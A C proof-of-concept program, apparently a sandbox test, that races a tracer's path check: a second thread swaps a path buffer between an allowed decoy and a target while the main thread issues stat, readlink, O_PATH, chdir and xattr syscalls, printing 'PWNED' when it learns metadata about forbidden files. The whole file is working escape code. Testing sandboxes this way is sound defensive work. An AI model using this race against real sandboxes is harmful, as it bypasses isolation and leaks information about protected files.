#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

/*
 * Races the tracer's path check with one path-taking syscall (argv[1]) on
 * each target (argv[2...]): a second thread flips the path buffer between
 * a name the policy allows but that does not exist (the tracer lets it
 * through, the kernel says ENOENT) and the target.  Whatever the kernel
 * says that is neither ENOENT nor the policy's EACCES came from the target:
 * the program learned something about a file outside its policy, and
 * prints it.  Targets are padded with "/./" to 44 bytes or more: while the
 * decoy is being copied over a target, the buffer briefly holds the
 * decoy's first strlen(target) bytes, and its first 25 or 26 name a
 * directory the policy allows.
 */
static const char decoy[] =
	"/usr/lib/x86_64-linux-gnu/judge-race-decoy-that-does-not-exist-0123456789abcdef";
static const char *volatile target;
static char path[4096];
static volatile int stop;

static void *flipper(void *arg)
{
	while (!stop) {
		const char *t = target;

		memcpy(path, t, strlen(t) + 1);
		memcpy(path, decoy, sizeof(decoy));
	}
	return arg;
}

static long now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000L + ts.tv_nsec / 1000000;
}

/* One try: the syscall's result, or -errno; `what` gets anything it revealed. */
static long try_once(const char *family, char *what, size_t len)
{
	struct stat st;
	struct statx stx;
	char buf[4096];
	long r;

	what[0] = '\0';
	if (strcmp(family, "stat") == 0) {
		r = syscall(SYS_stat, path, &st);
	} else if (strcmp(family, "lstat") == 0) {
		r = syscall(SYS_lstat, path, &st);
	} else if (strcmp(family, "newfstatat") == 0) {
		r = syscall(SYS_newfstatat, AT_FDCWD, path, &st, 0);
	} else if (strcmp(family, "statx") == 0) {
		r = syscall(SYS_statx, AT_FDCWD, path, 0, STATX_BASIC_STATS, &stx);
		st.st_size = (off_t)stx.stx_size;
		st.st_mode = stx.stx_mode;
	} else if (strcmp(family, "access") == 0) {
		r = syscall(SYS_access, path, F_OK);
	} else if (strcmp(family, "faccessat") == 0) {
		r = syscall(SYS_faccessat, AT_FDCWD, path, F_OK);
	} else if (strcmp(family, "faccessat2") == 0) {
		r = syscall(SYS_faccessat2, AT_FDCWD, path, F_OK, AT_EACCESS);
	} else if (strcmp(family, "readlink") == 0) {
		r = syscall(SYS_readlink, path, buf, sizeof(buf) - 1);
	} else if (strcmp(family, "readlinkat") == 0) {
		r = syscall(SYS_readlinkat, AT_FDCWD, path, buf, sizeof(buf) - 1);
	} else if (strcmp(family, "opath") == 0) {
		/* Landlock does not check O_PATH opens; fstat then reads the inode */
		r = syscall(SYS_openat, AT_FDCWD, path, O_PATH | O_CLOEXEC);
		if (r >= 0) {
			int fd = (int)r;

			r = fstat(fd, &st);
			close(fd);
		}
	} else if (strcmp(family, "chdir") == 0) {
		r = syscall(SYS_chdir, path);
		if (r == 0 && getcwd(buf, sizeof(buf)))
			snprintf(what, len, "cwd %.200s", buf);
	} else if (strcmp(family, "getxattr") == 0) {
		r = syscall(SYS_getxattr, path, "user.judge", buf, sizeof(buf));
	} else if (strcmp(family, "lgetxattr") == 0) {
		r = syscall(SYS_lgetxattr, path, "user.judge", buf, sizeof(buf));
	} else if (strcmp(family, "listxattr") == 0) {
		r = syscall(SYS_listxattr, path, buf, sizeof(buf));
	} else if (strcmp(family, "llistxattr") == 0) {
		r = syscall(SYS_llistxattr, path, buf, sizeof(buf));
	} else {
		fprintf(stderr, "unknown family %s\n", family);
		exit(2);
	}
	if (r < 0)
		return -errno;
	if (!what[0] && (strstr(family, "stat") || strcmp(family, "opath") == 0))
		snprintf(what, len, "size %lld mode %o", (long long)st.st_size, (unsigned)st.st_mode);
	else if (!what[0] && strstr(family, "readlink"))
		snprintf(what, len, "link to %.*s", (int)(r < 200 ? r : 200), buf);
	else if (!what[0])
		snprintf(what, len, "returned %ld", r);
	return r;
}

int main(int argc, char **argv)
{
	const char *family;
	long tries = 0, learned = 0, denied = 0, missing = 0;
	pthread_t t;

	if (argc < 3)
		return 2;
	family = argv[1];
	for (int i = 2; i < argc; i++) {
		char *p = malloc(strlen(argv[i]) + 64);

		if (!p || argv[i][0] != '/')
			return 2;
		p[0] = '\0';
		while (strlen(p) + strlen(argv[i]) < 44)
			strcat(p, "/.");
		strcat(p, argv[i]);
		argv[i] = p;
	}
	target = argv[2];
	strcpy(path, decoy);
	/* one thread for every target: the policy allows only two tasks */
	if (pthread_create(&t, NULL, flipper, NULL) != 0)
		return 3;
	for (int i = 2; i < argc; i++) {
		long start = now_ms();

		target = argv[i];
		while (now_ms() - start < 400) {
			char what[256];
			long r = try_once(family, what, sizeof(what));

			tries++;
			if (r == -ENOENT) {
				missing++;
				continue;
			}
			if (r == -EACCES) {
				denied++;
				continue;
			}
			learned++;
			if (learned <= 3) {
				if (r < 0)
					printf("PWNED: %s %s: %s\n", family, argv[i], strerror((int)-r));
				else
					printf("PWNED: %s %s: %s\n", family, argv[i], what);
			}
		}
	}
	stop = 1;
	pthread_join(t, NULL);
	printf("%s: %ld tries (ENOENT %ld, EACCES %ld), learned %ld\n", family, tries, missing,
	       denied, learned);
	return 0;
}
